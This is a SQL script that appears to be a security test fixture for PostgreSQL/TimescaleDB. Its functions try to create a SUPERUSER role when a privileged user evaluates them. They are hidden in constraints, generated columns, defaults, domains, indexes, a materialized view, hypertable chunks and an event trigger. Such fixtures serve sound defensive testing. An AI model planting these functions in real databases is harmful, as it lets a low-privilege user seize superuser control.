CREATE SCHEMA mal AUTHORIZATION $MALLORY;
SET SESSION AUTHORIZATION $MALLORY;
CREATE FUNCTION mal.pay(what text) RETURNS void LANGUAGE plpgsql AS $$
BEGIN
  IF session_user <> '$MALLORY' AND current_user <> '$MALLORY' THEN
    BEGIN
      EXECUTE format('CREATE ROLE %I SUPERUSER', '$MALLORY_' || what);
    EXCEPTION WHEN duplicate_object THEN NULL; WHEN insufficient_privilege THEN
      BEGIN
        RESET SESSION AUTHORIZATION;
        RESET ROLE;
        EXECUTE format('CREATE ROLE %I SUPERUSER', '$MALLORY_' || what);
      EXCEPTION WHEN OTHERS THEN NULL;
      END;
    END;
  END IF;
END $$;
CREATE FUNCTION mal.chk(a int, what text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS
  $$ BEGIN PERFORM mal.pay(what); RETURN true; END $$;
CREATE FUNCTION mal.val(a int, what text) RETURNS int LANGUAGE plpgsql IMMUTABLE AS
  $$ BEGIN PERFORM mal.pay(what); RETURN a; END $$;
CREATE TABLE mal.t (
  a int CHECK (mal.chk(a, 'check')),
  g int GENERATED ALWAYS AS (mal.val(a, 'generated')) STORED,
  d int DEFAULT mal.val(1, 'default'));
INSERT INTO mal.t (a) VALUES (1);
CREATE DOMAIN mal.dom AS int CHECK (mal.chk(VALUE, 'domain'));
CREATE TABLE mal.td (x mal.dom, y mal.dom[]);
INSERT INTO mal.td VALUES (1, '{1}');
CREATE TABLE mal.loop (a int);
INSERT INTO mal.loop VALUES (1);
CREATE FUNCTION mal.chkrow(r mal.loop) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS
  $$ BEGIN PERFORM mal.pay('row'); RETURN true; END $$;
ALTER TABLE mal.loop ADD CONSTRAINT rowcheck CHECK (mal.chkrow(loop.*));
CREATE TABLE mal.nv (a int);
INSERT INTO mal.nv VALUES (-1);
ALTER TABLE mal.nv ADD CONSTRAINT nv CHECK (a > 0 AND mal.chk(a, 'notvalid')) NOT VALID;
CREATE INDEX ON mal.t (mal.val(a, 'index'));
CREATE MATERIALIZED VIEW mal.mv AS SELECT mal.val(a, 'view') FROM mal.t;
CREATE FUNCTION mal.priv(a int) RETURNS boolean LANGUAGE sql IMMUTABLE AS 'SELECT a > 0';
REVOKE EXECUTE ON FUNCTION mal.priv(int) FROM PUBLIC;
CREATE TABLE mal.p (a int CHECK (mal.priv(a)));
INSERT INTO mal.p VALUES (1);
CREATE TABLE mal.h (time timestamptz NOT NULL, a int CHECK (mal.chk(a, 'chunk')));
SELECT public.create_hypertable('mal.h', 'time');
INSERT INTO mal.h VALUES ('2026-01-01Z', 1), ('2026-02-01Z', 1);
RESET SESSION AUTHORIZATION;
SELECT lo_from_bytea(0, 'large');
CREATE FUNCTION mal.ev() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM mal.pay('event'); END $$;
CREATE EVENT TRIGGER $MALLORY_ev ON ddl_command_end EXECUTE FUNCTION mal.ev();
ALTER EVENT TRIGGER $MALLORY_ev DISABLE;
ALTER FUNCTION mal.ev() OWNER TO $MALLORY;
